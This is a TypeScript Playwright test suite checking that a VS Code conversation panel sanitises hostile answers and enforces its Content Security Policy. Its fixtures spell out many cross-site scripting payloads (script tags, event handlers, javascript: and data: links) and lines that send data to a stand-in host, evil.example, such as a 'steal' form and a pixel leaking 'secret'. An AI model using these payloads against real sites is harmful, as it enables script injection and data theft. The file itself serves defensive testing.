import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { completedQuestion, conversation, failedQuestion, HOSTILE_MARKDOWN, processingQuestion, questionsUpdate, snapshot, turn } from './fixtures';
import { usePanelEnvironment } from './panelHarness';

/** Every trick a hostile answer could try; each one that runs pushes its name to `window.__hostile`. */
const HOSTILE_ANSWER = [
  'Intro paragraph.',
  '',
  '<script>window.__hostile.push("script")</script>',
  '<img src="x" onerror="window.__hostile.push(\'img-onerror\')">',
  '<a href="javascript:window.__hostile.push(\'js-href\')">js link</a>',
  '<a href=" JaVaScRiPt:window.__hostile.push(\'js-href-2\')">js link 2</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
  '<svg><script>window.__hostile.push("svg-script")</script><circle r="5" onload="window.__hostile.push(\'svg-onload\')"/></svg>',
  '<math><mi xlink:href="javascript:window.__hostile.push(\'math\')">x</mi></math>',
  '<iframe src="javascript:parent.__hostile.push(\'iframe\')"></iframe>',
  '<iframe srcdoc="<script>parent.__hostile.push(\'srcdoc\')</script>"></iframe>',
  '<object data="javascript:parent.__hostile.push(\'object\')"></object>',
  '<embed src="javascript:parent.__hostile.push(\'embed\')">',
  '<form action="https://evil.example/steal"><input name="secret"><button>Go</button></form>',
  '<p style="background:url(https://evil.example/track.png)">styled paragraph</p>',
  '<div style="position:fixed;inset:0">overlay</div>',
  '<style>body { display: none }</style>',
  '<details open ontoggle="window.__hostile.push(\'ontoggle\')"><summary>s</summary>d</details>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<a href="https://example.com/ok" target="_blank" onclick="window.__hostile.push(\'onclick\')">safe link</a>',
  '<img src="http://evil.example/pixel.png" alt="plain http pixel"> <img src="https://evil.example/q?code=secret" alt="https image">',
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline png" usemap="#m"><map name="m"><area href="https://evil.example/area" shape="rect" coords="0,0,9,9"></map>',
  '',
  '[markdown js link](javascript:window.__hostile.push("md-js"))',
  '[markdown data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![markdown image](x"onerror="window.__hostile.push(\'md-img\'))',
  '',
  '```html',
  '<script>shown as code, not run</script>',
  '```',
].join('\n');

declare global {
  interface Window {
    /** The elements whose load or error event has been dispatched (see `arm`). */
    __loaded?: WeakSet<EventTarget>;
  }
}

/**
 * Readies the page for a hostile answer: an empty `__hostile`, and a note of every element whose load
 * or error event is dispatched. The window hears those in its capture phase, before any handler on
 * the element, and a dispatch runs to its end before the page looks again.
 */
async function arm(page: Page): Promise<void> {
  await page.evaluate(() => {
    window.__hostile = [];
    const loaded = new WeakSet<EventTarget>();
    window.__loaded = loaded;
    for (const type of ['load', 'error']) window.addEventListener(type, (event) => event.target && loaded.add(event.target), true);
  });
}

/**
 * Waits until every image of the page with an address has loaded or failed, its load or error event
 * dispatched: a handler of it that survived has run by then.
 */
async function settle(page: Page): Promise<void> {
  await page.waitForFunction(() => Array.from(document.images).every((image) => !image.getAttribute('src') || window.__loaded?.has(image)));
}

describe('conversation panel: security', function () {
  this.timeout(30_000);
  const env = usePanelEnvironment();

  /** A panel showing `answer` as a finished question, with every URL the page requests recorded. */
  async function showAnswer(answer: string) {
    const panel = await env.open();
    const page = panel.page;
    const requested: string[] = [];
    page.on('request', (request) => requested.push(request.url()));
    await arm(page);
    await panel.send(snapshot(conversation([completedQuestion(1, { answer })])));
    await settle(page);
    return { panel, page, requested };
  }

  it('sanitises a hostile answer: nothing runs and nothing dangerous reaches the DOM', async () => {
    const { panel, page, requested } = await showAnswer(HOSTILE_ANSWER);

    assert.deepEqual(await page.evaluate(() => window.__hostile), [], 'no hostile script ran');
    const markdown = page.locator('.answer .markdown');
    assert.equal(await markdown.locator('script, iframe, object, embed, form, input, button:not(.copy-code), svg, math, style, base, meta, link').count(), 0);
    const findings = await page.evaluate(() => {
      const all = Array.from(document.querySelectorAll('*'));
      return {
        handlers: all.flatMap((node) => node.getAttributeNames().filter((name) => name.startsWith('on'))),
        styled: all.filter((node) => node.hasAttribute('style')).length,
        targets: all.filter((node) => node.hasAttribute('target')).length,
        // Inline raster images are the one data: URL allowed (checked below).
        badHrefs: all
          .flatMap((node) => ['href', 'src', 'xlink:href', 'action', 'data'].map((name) => node.getAttribute(name) ?? ''))
          .filter((value) => /^\s*(javascript|data|vbscript):/i.test(value) && !/^data:image\/png;/.test(value)),
        scripts: document.scripts.length,
      };
    });
    assert.deepEqual(findings.handlers, []);
    assert.equal(findings.styled, 0, 'no style attribute anywhere');
    assert.equal(findings.targets, 0);
    assert.deepEqual(findings.badHrefs, []);
    assert.equal(findings.scripts, 1, 'only the panel bundle');

    assert.equal(await markdown.locator('a', { hasText: 'safe link' }).getAttribute('href'), 'https://example.com/ok');
    assert.ok((await markdown.textContent())!.includes('styled paragraph'), 'content survives, its style does not');
    const images = await markdown.locator('img').evaluateAll((nodes) => nodes.map((image) => [image.getAttribute('src'), image.getAttribute('usemap')]));
    assert.ok(
      images.every(([src]) => src === null || src.startsWith('data:image/png;')),
      `only inline images: ${JSON.stringify(images)}`,
    );
    assert.ok(
      images.some(([src]) => src?.startsWith('data:image/png;')),
      'an inline image is kept',
    );
    assert.ok(
      images.every(([, usemap]) => usemap === null),
      'no image maps',
    );
    assert.equal(await markdown.locator('map, area').count(), 0);
    assert.match((await markdown.locator('pre code').textContent())!, /<script>shown as code, not run<\/script>/);
    assert.ok(await page.locator('.question').isVisible(), 'no stylesheet hid the page');
    assert.deepEqual(
      requested.filter((url) => url.includes('evil.example')),
      [],
      'nothing hostile was fetched',
    );
    // DOMPurify parses in an inert document that shares the page's CSP, so Chromium reports the
    // hostile inline handlers and styles it met there: all blocked, none from the rendered DOM.
    for (const violation of await panel.cspViolations()) assert.equal(violation.blockedURI, 'inline');
  });

  it('keeps a hostile answer without raw HTML harmless: unsafe links and images dropped, markup shown as text', async () => {
    const { panel, page, requested } = await showAnswer(HOSTILE_MARKDOWN);
    // Activate and hover everything a handler could hide behind.
    for (const link of await page.locator('.answer .markdown a').all()) await link.click();
    for (const node of await page.locator('.answer .markdown a, .answer .markdown img, .answer .markdown code').all()) await node.hover();
    await settle(page);

    assert.deepEqual(await page.evaluate(() => window.__hostile), [], 'no hostile script ran');
    const markdown = page.locator('.answer .markdown');
    assert.equal(await markdown.locator('script, iframe, object, embed, svg, style').count(), 0);
    const findings = await page.evaluate(() => {
      const all = Array.from(document.querySelectorAll('.answer .markdown *'));
      return {
        attributes: Array.from(new Set(all.flatMap((node) => node.getAttributeNames()))).sort(),
        hrefs: all.filter((node) => node.hasAttribute('href')).map((node) => node.getAttribute('href')),
        sources: all.filter((node) => node.hasAttribute('src')).map((node) => node.getAttribute('src')),
        classes: Array.from(new Set(all.map((node) => node.getAttribute('class')).filter((value) => value !== null))).sort(),
      };
    });
    assert.deepEqual(findings.attributes, ['alt', 'aria-hidden', 'aria-label', 'class', 'href', 'src', 'title', 'type']);
    assert.deepEqual(findings.hrefs, ['https://example.com/ok']);
    assert.deepEqual(findings.sources, ['data:image/png;base64,iVBORw0KGgo=']);
    // The panel's own code-block header; nothing from the answer (its language is refused).
    assert.deepEqual(findings.classes, ['code-block', 'code-header', 'code-language', 'codicon codicon-copy', 'icon-button copy-code']);
    assert.equal(await markdown.locator('a[href][title]').getAttribute('title'), '" onmouseover="window.__hostile.push(\'title\')');
    const text = (await markdown.textContent())!;
    for (const shown of [
      '<img src=x onerror="window.__hostile.push(\'entity-text\')">',
      '<script>window.__hostile.push("escaped")</script>',
      "</code><img src=x onerror=window.__hostile.push('codespan')>",
      '</code></pre><img src=x onerror=window.__hostile.push("fence")>',
      "<script>window.__hostile.push('cell')</script>",
    ]) {
      assert.ok(text.includes(shown), `shown as text: ${shown}`);
    }
    assert.deepEqual(
      requested.filter((url) => url.includes('evil.example')),
      [],
      'nothing hostile was fetched',
    );
    assert.deepEqual(await panel.cspViolations(), [], 'nothing even tried to run');
    assert.deepEqual(
      (await panel.postedOfType('openLink')).map((message) => message.href),
      ['https://example.com/ok'],
      'only the safe link reaches the host',
    );
  });

  it('shows hostile titles, questions, turns, errors and source labels as plain text', async () => {
    const panel = await env.open();
    const page = panel.page;
    await arm(page);
    const hostile = (name: string) => `<img src=x onerror="window.__hostile.push('${name}')"><b>${name}</b>`;
    await panel.send(
      snapshot(
        conversation([
          completedQuestion(1, {
            title: hostile('title'),
            text: hostile('question'),
            sources: [{ type: 'File', link: '/github.com/org/repo', label: hostile('source') }],
            suggestedFollowups: [hostile('followup')],
          }),
          failedQuestion(2, { error: { kind: '<i>kind</i>', title: hostile('error-title'), message: hostile('error-message') } }),
          processingQuestion(3, { turns: [turn(hostile('turn'), 1, '<u>role</u>')] }),
        ]),
      ),
    );
    await settle(page);

    assert.deepEqual(await page.evaluate(() => window.__hostile), []);
    assert.equal(await page.locator('.question-list img, .question-list b, .question-list i, .question-list u, .conversation-header img').count(), 0);
    assert.equal(await page.locator('h1.conversation-title').textContent(), hostile('title'));
    assert.equal(await page.locator('[data-question-id="1"] .question-text').textContent(), hostile('question'));
    assert.equal(await page.locator('.source-label').textContent(), hostile('source'));
    assert.equal(await page.locator('.followup-suggestion .button-label').textContent(), hostile('followup'));
    assert.equal(await page.locator('.callout-error .callout-title').textContent(), hostile('error-title'));
    assert.equal(await page.locator('.callout-error .callout-message').textContent(), hostile('error-message'));
    const liveTurn = page.locator('[data-question-id="3"] .turn');
    assert.equal(await liveTurn.locator('.turn-text').textContent(), hostile('turn'));
    assert.equal(await liveTurn.locator('.turn-role').textContent(), '<u>role</u>');
  });

  it('shows a source with a javascript: or data: link as text, not as a link', async () => {
    const panel = await env.open();
    await panel.send(
      snapshot(
        conversation([
          completedQuestion(1, {
            sources: [
              { type: 'File', link: 'javascript:alert(1)', label: 'script source' },
              { type: 'File', link: 'data:text/html,hi', label: 'data source' },
            ],
          }),
        ]),
      ),
    );
    assert.equal(await panel.page.locator('.sources a').count(), 0);
    assert.deepEqual(await panel.page.locator('.source-label').allTextContents(), ['script source', 'data source']);
  });

  for (const answer of [
    '<frameset><frame src="https://evil.example/"></frameset>',
    '  \n<!-- first a comment -->\n<frameset cols="50%">',
    '<FRAMESET>\n\nThe rest.',
  ]) {
    it(`shows an answer the sanitiser gives no DOM for as text, and the rest of the conversation (${JSON.stringify(answer.slice(0, 24))})`, async () => {
      const panel = await env.open();
      const page = panel.page;
      const first = completedQuestion(1, { answer: 'First **answer**.' });
      const third = completedQuestion(3, { answer: 'Third answer.' });
      await panel.send(snapshot(conversation([first, completedQuestion(2, { answer }), third])));
      await page.locator('.question .markdown strong', { hasText: 'answer' }).waitFor();
      const answers = await page.locator('.question .markdown').allInnerTexts();
      assert.equal(answers.length, 3, 'every answer is shown');
      assert.equal(answers[1].trim(), answer.trim(), 'the bad one as its text');
      assert.match(answers[2], /Third answer/);
      assert.equal(await page.locator('frameset, frame').count(), 0);

      // The update path: a follow-up whose answer arrives in a poll update.
      const followup = completedQuestion(4, { answer });
      await panel.send(questionsUpdate(conversation([first, completedQuestion(2, { answer }), third, followup]), [followup]));
      await page.locator('.question .markdown').nth(3).waitFor();
      assert.equal((await page.locator('.question .markdown').nth(3).innerText()).trim(), answer.trim());
      assert.deepEqual(panel.pageErrors, []);
    });
  }

  it('shows an answer too costly to parse as its text with a note, and renders the next one', async () => {
    const panel = await env.open();
    const page = panel.page;
    // Each of these took marked from seconds to minutes: quadratic emphasis, deep list nesting.
    const costly = ['_a'.repeat(100_000), '*a'.repeat(100_000), Array.from({ length: 400 }, (_, level) => `${' '.repeat(level * 2)}- a`).join('\n')];
    const questions = [...costly.map((answer, index) => completedQuestion(index + 1, { answer })), completedQuestion(9, { answer: 'The **last** answer.' })];
    await panel.send(snapshot(conversation(questions)));
    await page.locator('.question .markdown strong', { hasText: 'last' }).waitFor();
    const notes = await page.locator('.question .markdown .markdown-plain-note').allInnerTexts();
    assert.deepEqual(notes, [
      'Shown as plain text: this answer has too many emphasis markers to render as Markdown in reasonable time.',
      'Shown as plain text: this answer has too many emphasis markers to render as Markdown in reasonable time.',
      'Shown as plain text: this answer nests lists or quotes too deeply to render as Markdown.',
    ]);
    const shown = await page.locator('.question .markdown pre').evaluateAll((nodes) => nodes.map((node) => node.textContent?.length ?? 0));
    assert.deepEqual(
      shown,
      costly.map((answer) => answer.length),
      'the whole text of each is there',
    );
    assert.deepEqual(panel.pageErrors, []);
  });

  it('the CSP blocks inline script, whether served in the page or injected later', async () => {
    const panel = await env.open({ injectInlineScript: true });
    const page = panel.page;
    assert.equal(await page.evaluate(() => (window as { __inlineScriptRan?: boolean }).__inlineScriptRan), undefined);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__injectedScriptRan = true;';
      document.body.append(script);
      const handler = document.createElement('div');
      handler.setAttribute('onclick', 'window.__injectedHandlerRan = true');
      document.body.append(handler);
      handler.click();
    });
    const ran = await page.evaluate(() => {
      const flags = window as { __injectedScriptRan?: boolean; __injectedHandlerRan?: boolean };
      return [flags.__injectedScriptRan, flags.__injectedHandlerRan];
    });
    assert.deepEqual(ran, [undefined, undefined]);
    const violations = await panel.cspViolations();
    assert.ok(violations.filter((violation) => violation.directive.startsWith('script-src')).length >= 3, JSON.stringify(violations));
    assert.deepEqual(await panel.posted(), [{ type: 'ready' }], 'the nonce’d bundle still runs');
  });

  it('renders and reacts without a single CSP violation, with its stylesheets and font applied', async () => {
    const panel = await env.open();
    const page = panel.page;
    await panel.send(snapshot(conversation([completedQuestion(1), failedQuestion(2), processingQuestion(3)])));
    await page.getByRole('button', { name: 'Copy code' }).click();
    await page.locator('details.turns-finished summary').first().click();
    await page.evaluate(() => document.fonts.ready.then(() => undefined));

    assert.deepEqual(await panel.cspViolations(), []);
    assert.deepEqual(panel.pageErrors, []);
    const applied = await page.evaluate(() => ({
      background: getComputedStyle(document.body).backgroundColor,
      codiconFont: getComputedStyle(document.querySelector('.codicon')!).fontFamily,
      codiconLoaded: document.fonts.check('16px codicon'),
    }));
    assert.equal(applied.background, 'rgb(31, 31, 31)', 'panel.css and the theme variables apply');
    assert.equal(applied.codiconFont, 'codicon');
    assert.ok(applied.codiconLoaded, 'the codicon font loaded under font-src');
  });

  it('hands every link click to the host as openLink with the raw href, and stops it before the webview host sees it', async () => {
    const panel = await env.open();
    const page = panel.page;
    await panel.send(snapshot(conversation([completedQuestion(1)])));
    await page.evaluate(() => document.fonts.ready.then(() => undefined));
    const startUrl = page.url();
    const requestsBefore = env.server.requests.length;
    // VS Code's webview host listens on the page's window in the bubble phase and opens every
    // <a href> a click reaches it with, whatever preventDefault said: none may reach it.
    await page.evaluate(() => {
      const reached: string[] = [];
      (window as unknown as { __reachedHost: string[] }).__reachedHost = reached;
      for (const type of ['click', 'auxclick']) {
        window.addEventListener(type, (event) => {
          const anchor = event.composedPath().find((node): node is HTMLAnchorElement => node instanceof HTMLAnchorElement);
          if (anchor) reached.push(`${type} ${anchor.getAttribute('href')}`);
        });
      }
    });

    await page.locator('.markdown a', { hasText: 'poller.ts' }).click();
    await page.locator('.markdown a', { hasText: 'store' }).click();
    await page.locator('.sources a', { hasText: 'github.com/org/repo' }).click();
    await page.locator('.sources a', { hasText: 'src/api/poller.ts' }).click({ button: 'middle' });
    await page.locator('.sources a', { hasText: 'github.com/org/repo' }).focus();
    await page.keyboard.press('Enter');

    assert.deepEqual(
      (await panel.postedOfType('openLink')).map((message) => message.href),
      [
        'https://sourcegraph.example.com/github.com/org/repo/-/blob/src/api/poller.ts?L12-30',
        '/github.com/org/repo/-/blob/src/store.ts',
        '/github.com/org/repo',
        '/github.com/org/repo/-/blob/src/api/poller.ts',
        '/github.com/org/repo',
      ],
    );
    assert.deepEqual(await page.evaluate(() => (window as unknown as { __reachedHost: string[] }).__reachedHost), [], 'no link click reached the window');
    assert.equal(page.url(), startUrl);
    assert.equal(page.context().pages().length, 1, 'no new window either');
    assert.deepEqual(env.server.requests.slice(requestsBefore), [], 'the page fetched nothing a link points to');
  });
});
